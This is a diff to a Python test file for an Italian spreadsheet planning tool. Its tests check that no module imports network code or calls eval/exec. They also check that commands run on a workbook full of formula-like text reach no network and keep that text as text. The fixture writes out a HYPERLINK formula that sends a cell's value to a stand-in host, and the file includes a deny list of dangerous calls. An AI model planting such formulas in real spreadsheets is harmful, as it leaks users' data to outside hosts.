@@ -6,14 +6,13 @@ import os
 import re
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 from zipfile import ZipFile
 
 import pytest
 from openpyxl import Workbook
 
-from tests.cli.hostile import hostile_plan
-from tests.cli.typed import run
 from tests.support import HEADER, row
 
 ROOT = Path(__file__).parents[1]
@@ -57,31 +56,54 @@ def test_the_page_is_linked_from_where_people_look() -> None:
         assert "sicurezza.md" in (ROOT / page).read_text(encoding="utf-8"), page
 
 
-def imported(path: Path) -> set[str]:
-    names: set[str] = set()
+def known_to(path: Path) -> Iterator[str]:
+    """The modules that a file imports, and the functions that it calls by their bare names."""
     for one in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-        if isinstance(one, ast.Import):
-            names.update(alias.name.partition(".")[0] for alias in one.names)
-        elif isinstance(one, ast.ImportFrom) and one.module and not one.level:
-            names.add(one.module.partition(".")[0])
-            names.update(f"{one.module}.{alias.name}" for alias in one.names if one.module == "urllib")
-    return names
+        match one:
+            case ast.Import(names=names):
+                yield from (name for alias in names for name in (alias.name, alias.name.partition(".")[0]))
+            case ast.ImportFrom(module=str(module), names=names, level=0):
+                yield from (module.partition(".")[0], *(f"{module}.{alias.name}" for alias in names), module)
+            case ast.Call(func=ast.Name(id=name)):
+                yield f"{name}()"
 
 
 def test_no_module_knows_the_network_or_runs_what_it_reads() -> None:
-    for path in (ROOT / "pdo_xl").rglob("*.py"):
-        assert imported(path).isdisjoint(NETWORK | UNSAFE | {"urllib.request"}), path
-        called = {one.func.id for one in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(one, ast.Call) and isinstance(one.func, ast.Name)}  # fmt: skip
-        assert called.isdisjoint({"eval", "exec", "compile", "__import__"}), path
+    called = ("eval", "exec", "compile", "__import__")
+    refused = NETWORK | UNSAFE | {"urllib.request"} | {f"{name}()" for name in called}
+    # Only what has one of the words somewhere is read as a program: there are many files.
+    words = [*NETWORK, *UNSAFE, "urllib", *(f"{name}(" for name in called)]
+    texts = {
+        path: path.read_text(encoding="utf-8").replace(".compile(", "") for path in (ROOT / "pdo_xl").rglob("*.py")
+    }
+    suspects = [path for path, text in texts.items() if any(word in text for word in words)]
+    assert len(texts) > 500
+    assert {str(path): names for path in suspects if (names := refused.intersection(known_to(path)))} == {}
 
 
-@pytest.mark.slow
-def test_no_command_reaches_for_a_network_a_program_or_another_folder(tmp_path: Path) -> None:
-    """On a plan whose every text is hostile."""
-    office = hostile_plan(tmp_path / "cattivo.xlsx")
-    plan = str(tmp_path / "Piano.xlsm")
+FORMULA = '=HYPERLINK("http://prova.example/"&A1,"premere qui")'
+
+
+@pytest.fixture(scope="module")
+def watched(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list]]:
+    """All that the commands make of a plan whose every text looks like a formula, and what they reached for."""
+    folder = tmp_path_factory.mktemp("ufficio")
+    office, plan = folder / "p.xlsx", str(folder / "Piano.xlsm")
+    book = Workbook()
+    sheet = book.active
+    rows = [
+        ["Piano degli obiettivi 2024"],
+        HEADER,
+        *(row(*[FORMULA] * 4, weight=50.0, manager=FORMULA) for _ in range(3)),
+    ]
+    for line, cells in enumerate(rows, start=1):
+        for column, value in enumerate(cells, start=1):
+            cell = sheet.cell(line, column, value)
+            if value == FORMULA:
+                cell.data_type = "s"
+    book.save(office)
     out = {
-        name: str(tmp_path / name)
+        name: str(folder / name)
         for name in ("b.xlsx", "n.xlsm", "o.xlsm", "r.html", "r.docx", "c.ics", "v.xlsx", "S", "D", "P")
     }
     commands = [
@@ -94,49 +116,28 @@ def test_no_command_reaches_for_a_network_a_program_or_another_folder(tmp_path: 
         ["aggiorna", plan], ["disattiva", plan, "--esito", out["b.xlsx"]],
     ]  # fmt: skip
     done = subprocess.run(
-        [sys.executable, "-m", "tests.watching", str(tmp_path)], input=json.dumps(commands), capture_output=True, text=True,
-        check=False, cwd=ROOT, env={**os.environ, "TMPDIR": str(tmp_path)},
+        [sys.executable, "-m", "tests.watching", str(folder)], input=json.dumps(commands), capture_output=True, text=True,
+        check=False, cwd=ROOT, env={**os.environ, "TMPDIR": str(folder)},
     )  # fmt: skip
     assert done.returncode == 0, done.stderr
     said = json.loads(done.stdout)
     failed = [(command, *code) for command, code in zip(commands, said["codes"], strict=True) if code[0] not in (0, 1)]
     assert failed == []
+    return folder, said
+
+
+@pytest.mark.slow
+def test_no_command_reaches_for_a_network_a_program_or_another_folder(watched: tuple[Path, dict[str, list]]) -> None:
+    _, said = watched
     assert said["reached"] == []
     assert said["written"] == []
 
 
-FORMULA = '=HYPERLINK("http://prova.example/"&A1,"premere qui")'
-
-
 @pytest.mark.slow
-@pytest.mark.not_for_excel("what these commands write is judged in their own tests")
-def test_a_text_that_looks_like_a_formula_stays_a_text(tmp_path: Path) -> None:
-    """In all that is made of a plan whose every text is one: only the program's own formulas are there."""
-    office, plan, parts = tmp_path / "p.xlsx", tmp_path / "Piano.xlsm", tmp_path / "Parti"
-    book = Workbook()
-    sheet = book.active
-    for line, cells in enumerate(
-        [
-            ["Piano degli obiettivi 2024"],
-            HEADER,
-            *(row(*[FORMULA] * 4, weight=50.0, manager=FORMULA) for _ in range(3)),
-        ],
-        start=1,
-    ):
-        for column, value in enumerate(cells, start=1):
-            cell = sheet.cell(line, column, value)
-            if value == FORMULA:
-                cell.data_type = "s"
-    book.save(office)
-    for command in (
-        ["attiva", office, "--esito", plan, "--si"], ["calcola", plan], ["distribuisci", plan, "--esito", parts],
-        ["valutazione", plan, "--esito", tmp_path / "v.xlsx"], ["nuovo-anno", plan, "--anno", "2025", "--esito", tmp_path / "n.xlsm"],
-        ["esempio", plan, "--esito", tmp_path / "e.xlsm"],
-    ):  # fmt: skip
-        answer = run(*command)
-        assert answer.exit_code in (0, 1), (command, answer.output)
-    made = [path for path in tmp_path.rglob("*.xls*") if path != office]
-    assert len(made) == 5
+def test_a_text_that_looks_like_a_formula_stays_a_text(watched: tuple[Path, dict[str, list]]) -> None:
+    """In all that is made of it only the program's own formulas are there."""
+    made = [path for path in watched[0].rglob("*.xls*") if path.name != "p.xlsx"]
+    assert len(made) > 5
     for path in made:
         with ZipFile(path) as package:
             markup = b"".join(
